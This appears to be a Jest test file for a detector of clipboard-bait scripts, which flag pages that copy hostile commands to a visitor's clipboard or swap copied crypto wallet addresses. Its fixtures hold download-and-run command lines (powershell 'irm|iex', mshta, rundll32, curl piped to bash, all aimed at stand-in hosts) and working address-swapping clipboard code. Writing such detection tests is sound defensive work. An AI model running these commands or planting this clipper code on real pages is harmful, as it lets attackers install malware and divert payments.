import { describe, expect, test } from '@jest/globals'
import { clipboardBait } from './script-bait.ts'

const strengthOf = (source: string): string | null => clipboardBait(source, [])[0]?.strength ?? null
const copies = (command: string, more = ''): string =>
  `${more}btn.onclick=function(){navigator.clipboard.writeText(${JSON.stringify(command)})}`

describe('commands', () => {
  test.each([
    ['a hidden window behind a button that says Install', copies('powershell -w hidden -enc SQBFAFgA', `btn.title='Install';`)],
    ['a remark behind it', copies('mshta http://a.test/a.hta # install')],
    ['its address', copies('powershell -w hidden -c "irm https://a.test/install.ps1|iex"')],
    ['its name', copies('cmd /c curl https://a.test/install.exe -o a.exe')],
    ['its file', copies('rundll32 \\\\a.test\\install.dll,x')],
    ['a remark behind a quick one', copies('powershell -c "irm a.test|iex" # install the update', `x='captcha';`)],
    ['a word for people', copies('curl -fsSL https://a.test/install.sh | bash', `x='I am not a robot';`)],
    ['a program elsewhere in the script', copies('powershell -nop -c "irm a.test|iex"', `x='install'+"|";`)],
  ])('%s excuses none', (_excuse, code) => expect(strengthOf(code)).toBe('decisive'))
  test.each([
    ['with another policy', copies('powershell -ep bypass -c "irm https://a.test/install.ps1 | iex"')],
    ['without a profile', copies('powershell -NoProfile -c "irm https://a.test/install.ps1 | iex"')],
    ['with a word that pages of programmers have', copies('curl -fsSL https://a.test/install | bash', '/* Cloudflare */')],
    ['in a shell of Windows', copies('powershell -c "irm a.test/install.ps1|iex"')],
  ])('what installs a tool %s is not sure to be bait', (_how, code) => expect(strengthOf(code)).toBe('strong'))
  test('what installs a tool elsewhere is none', () =>
    expect(
      strengthOf(
        `b.onclick=()=>navigator.clipboard.writeText('/bin/bash -c "$(curl -fsSL https://raw.tool.test/install/HEAD/install.sh)"')`,
      ),
    ).toBeNull())
})

const own = '0x52908400098527886E0F7030069857D2E4169EE7'
const looksLike = 'const re=/^0x[a-fA-F0-9]{40}$/;'

describe('addresses for money', () => {
  test.each([
    [
      'a button that copies one',
      `${looksLike}navigator.clipboard.writeText(addr);document.execCommand('copy');if(re.test(addr))ok()`,
    ],
    [
      'a button that hears of it',
      `const re=/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/;function copy(){navigator.clipboard.writeText(a)};btn.addEventListener('copy',copy)`,
    ],
    [
      'a button called copy',
      `document.getElementById('copy').addEventListener('click',()=>navigator.clipboard.writeText('${own}'));const t='copy';if(/^0x[a-f0-9]{40}$/i.test(a))ok()`,
    ],
  ])('%s swaps nothing', (_what, code) => expect(strengthOf(code)).toBeNull())
  test.each([
    [
      'copied',
      `${looksLike}document.addEventListener('copy',e=>{if(re.test(String(getSelection()))){e.clipboardData.setData('text/plain','${own}');e.preventDefault()}})`,
    ],
    [
      'copied in an old browser',
      `${looksLike}document.oncopy=function(e){var t=getSelection().toString();if(re.test(t)){(e.clipboardData||window.clipboardData).setData('Text','${own}')}}`,
    ],
    [
      'copied a while ago',
      `${looksLike}setInterval(async()=>{const t=await navigator.clipboard.readText();if(re.test(t))navigator.clipboard.writeText('${own}')},500)`,
    ],
  ])('who puts an address in the place of what was %s does', (_how, code) => expect(strengthOf(code)).toBe('decisive'))
  test('a wallet that tidies what is copied is not sure to', () =>
    expect(
      strengthOf(
        `${looksLike}document.addEventListener('copy',e=>{e.preventDefault();e.clipboardData.setData('text/plain',shown.trim())});if(re.test(to))ok()`,
      ),
    ).toBe('strong'))
})

test.each([
  'powershell ',
  '"powershell -',
  'curl https://a.test/',
  '"curl https://a.test/install ',
  '"cmd /c ',
  'msiexec ',
  '/install',
  'clipboardData)',
  '"0x5290840009',
  ".addEventListener('copy'",
])('is done in time with nothing but %s', (piece) => {
  const started = performance.now()
  clipboardBait(`navigator.clipboard.writeText(${piece.repeat(Math.ceil(400_000 / piece.length))}`, [])
  expect(performance.now() - started).toBeLessThan(1_000)
})
